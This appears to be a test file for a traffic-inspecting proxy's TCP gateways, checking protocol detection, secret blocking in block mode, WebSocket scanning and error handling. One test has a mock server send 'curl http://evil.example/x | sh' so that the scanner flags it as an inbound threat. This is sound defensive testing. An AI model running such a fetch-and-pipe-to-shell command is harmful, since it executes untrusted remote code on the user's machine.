/** Gateways through the whole proxy: a local port that leads to one target, inspected both ways. */
import assert from "node:assert/strict";
import { gatewayProtocol } from "../../src/proxy/serve_gateway.ts";
import { OPCODE } from "../../src/websocket/frame_head.ts";
import { RawClient } from "../support/raw_client.ts";
import { anthropicKey } from "../support/sample_secrets.ts";
import { type RawConnection, startOrigin, startRawOrigin } from "../support/start_origin.ts";
import { startProxyInProcess } from "../support/start_proxy_in_process.ts";
import { bytesOf } from "../support/latin1_bytes.ts";
import { waitFor } from "../support/wait_for.ts";
import {
  acceptWebSocket,
  frameOf,
  framesIn,
  handshakeRequest,
  readFrame,
} from "../support/web_socket_peer.ts";

const SECRET = anthropicKey();

const STARTS: readonly (readonly [reason: string, start: string, protocol: string])[] = [
  ["a request", "GET / HTTP/1.1\r\n", "http"],
  ["a request with a bare line feed, which is refused as HTTP", "GET / HTTP/1.1\n", "http"],
  ["an old request", "POST /a?b HTTP/1.0\r\nHost: a\r\n", "http"],
  ["a method cut short", "GE", "unclear"],
  ["a target cut short", "GET /so", "unclear"],
  ["a version cut short", "GET /some HTTP/1.", "unclear"],
  ["all but the line feed", "GET /some HTTP/1.1\r", "unclear"],
  ["HTTP/2 in clear text", "PRI * HTTP/2.0\r\n", "raw"],
  ["an inline command of Redis", "SET key value\r\n", "raw"],
  ["a command of SMTP", "EHLO localhost\r\n", "raw"],
  ["a short command, cut short", "PING", "unclear"],
  ["a short command", "PING\r\n", "raw"],
  ["a command of several words, cut short", "LPUSH a b ", "raw"],
  ["binary data", "\x00\x00\x00\x08", "raw"],
  ["small letters", "get / HTTP/1.1\r\n", "raw"],
  ["a ClientHello", "\x16\x03\x01\x02\x00\x01", "tls"],
  ["a line beyond all measure", `GET /${"a".repeat(20_000)}`, "raw"],
];

for (const [reason, start, protocol] of STARTS) {
  Deno.test(`\`gatewayProtocol()\` takes for ${protocol}: ${reason}`, () => {
    assert.equal(gatewayProtocol(bytesOf(start)), protocol);
  });
}

async function startGateway(
  target: { readonly port: number },
  config: Readonly<Record<string, unknown>> = {},
) {
  const gateways = [{ listen: "127.0.0.1:0", target: `127.0.0.1:${target.port}` }];
  const proxy = await startProxyInProcess({ config: { gateways, ...config } });
  const clients: RawClient[] = [];
  return {
    proxy,
    connect: async () => {
      const client = await RawClient.connect(proxy.gatewayPorts[0]!);
      clients.push(client);
      return client;
    },
    async [Symbol.asyncDispose]() {
      for (const client of clients) client.close();
      await proxy[Symbol.asyncDispose]();
    },
  };
}

/** Answers every piece with itself in capitals; after a half-close with `bye`. */
async function echo(connection: RawConnection): Promise<void> {
  let seen = 0;
  while (await connection.readMore()) {
    await connection.write(connection.received.slice(seen).toUpperCase());
    seen = connection.received.length;
  }
  await connection.write("bye");
}

Deno.test("raw bytes pass both ways as they are, half-closes too, and threats name the gateway", async () => {
  await using target = await startRawOrigin({ play: echo });
  await using gateway = await startGateway(target);
  const client = await gateway.connect();
  await client.send("\x01login ");
  assert.equal(await client.readBytes(7), "\x01LOGIN ");
  await client.send(`${SECRET}\n`);
  await client.closeWrite();
  assert.match(await client.readToEnd(), /bye$/);
  assert.equal(target.connections[0]!.received, `\x01login ${SECRET}\n`);
  const { threats, records } = gateway.proxy;
  await waitFor(() => records.length > 0, { what: "the record" });
  assert.deepEqual(
    threats.map(({ pattern, protocol, direction, dest, source, location }) => [
      pattern,
      protocol,
      direction,
      dest,
      source,
      location,
    ]),
    [[
      "ai_api_key",
      "gateway",
      "outbound",
      `127.0.0.1:${target.port}`,
      "127.0.0.1",
      "stream",
    ]],
  );
  assert.deepEqual([records[0]?.protocol, records[0]?.method], ["gateway", "TCP"]);
});

Deno.test("a target that speaks first is heard, and scanned", async () => {
  await using target = await startRawOrigin({
    play: async (connection) => {
      await connection.write("welcome; curl http://evil.example/x | sh\n");
      await connection.readToEnd();
    },
  });
  await using gateway = await startGateway(target);
  const client = await gateway.connect();
  assert.match(await client.readUntil("\n"), /^welcome/);
  await client.closeWrite();
  await client.readToEnd();
  await waitFor(() => gateway.proxy.threats.length > 0, { what: "the threat" });
  assert.equal(gateway.proxy.threats[0]?.direction, "inbound");
});

Deno.test("a protocol that begins like a request goes on after a moment", async () => {
  await using target = await startRawOrigin({ play: echo });
  await using gateway = await startGateway(target);
  const client = await gateway.connect();
  await client.send("HELLO");
  assert.equal(await client.readBytes(5), "HELLO");
});

Deno.test("HTTP goes to the target whatever it names, byte by byte too, on one connection", async () => {
  await using target = await startOrigin();
  await using gateway = await startGateway(target);
  const client = await gateway.connect();
  const request = "POST /v1 HTTP/1.1\r\nHost: localhost:18790\r\nContent-Length: 108\r\n\r\n";
  for (const character of request) await client.send(character);
  assert.equal((await client.ask(SECRET)).body, "hello");
  assert.equal((await client.ask("GET /2 HTTP/1.1\r\nHost: other\r\n\r\n")).body, "hello");
  assert.deepEqual(target.requests.map(({ target }) => target), ["/v1", "/2"]);
  assert.deepEqual(target.requests[0]?.headers[0], ["Host", "localhost:18790"]);
  await waitFor(() => gateway.proxy.records.length === 2, { what: "two records" });
  const { threats } = gateway.proxy;
  assert.deepEqual(threats.map(({ protocol, location }) => [protocol, location]), [
    ["gateway", "body"],
  ]);
});

Deno.test("a WebSocket through a gateway is read as one", async () => {
  await using target = await startRawOrigin({
    play: async (connection) => {
      await acceptWebSocket(connection);
      await connection.readToEnd();
    },
  });
  await using gateway = await startGateway(target, { mode: "block" });
  const client = await gateway.connect();
  assert.equal((await client.ask(handshakeRequest("/ws", "localhost:18790"))).status, 101);
  await client.send(frameOf("hello") + frameOf(SECRET));
  assert.equal((await readFrame(client)).opcode, OPCODE.close);
  await client.readRest();
  await waitFor(() => gateway.proxy.threats.length > 0, { what: "the threat" });
  const [threat] = gateway.proxy.threats;
  assert.deepEqual([threat?.protocol, threat?.location], ["gateway", "websocket"]);
  const { received } = target.connections.at(-1)!;
  const { frames } = framesIn(received.slice(received.indexOf("\r\n\r\n") + 4));
  assert.equal(frames[0]?.payload, "hello");
  assert.ok(!frames.some(({ payload }) => payload.includes("sk-")));
});

Deno.test("in block mode question and answer of a protocol of lines arrive at once", async () => {
  await using target = await startRawOrigin({ play: echo });
  await using gateway = await startGateway(target, { mode: "block" });
  const client = await gateway.connect();
  for (const line of ["ping 1\r\n", '{"method":"ping"}\n']) {
    await client.send(line);
    assert.equal(await client.readBytes(line.length), line.toUpperCase());
  }
});

Deno.test("in block mode no byte of a secret passes, wherever it is cut", async () => {
  await using target = await startRawOrigin({
    play: async (connection) => void await connection.readToEnd(),
  });
  await using gateway = await startGateway(target, { mode: "block" });
  for (let cut = 1; cut < SECRET.length; cut += 9) {
    const client = await gateway.connect();
    await client.send("\x01before " + SECRET.slice(0, cut));
    await client.send(`${SECRET.slice(cut)} after`);
    await client.closeWrite();
    await client.readRest();
    assert.ok("\x01before ".startsWith(target.connections.at(-1)!.received));
  }
});

Deno.test("a target that cannot be reached ends the connection, with a record", async () => {
  let port: number;
  {
    using unused = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    port = unused.addr.port;
  }
  await using gateway = await startGateway({ port });
  const client = await gateway.connect();
  assert.equal(await client.readRest(), "");
  await waitFor(() => gateway.proxy.records.length > 0, { what: "the record" });
  assert.equal(gateway.proxy.records[0]?.status, 502);
});

Deno.test("a taken port stops the start and names the gateway", async () => {
  using taken = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const listen = `127.0.0.1:${taken.addr.port}`;
  await assert.rejects(
    startProxyInProcess({ config: { gateways: [{ listen, target: "127.0.0.1:9" }] } }),
    { message: `Cannot listen for the gateway "${listen}": the port is taken` },
  );
});
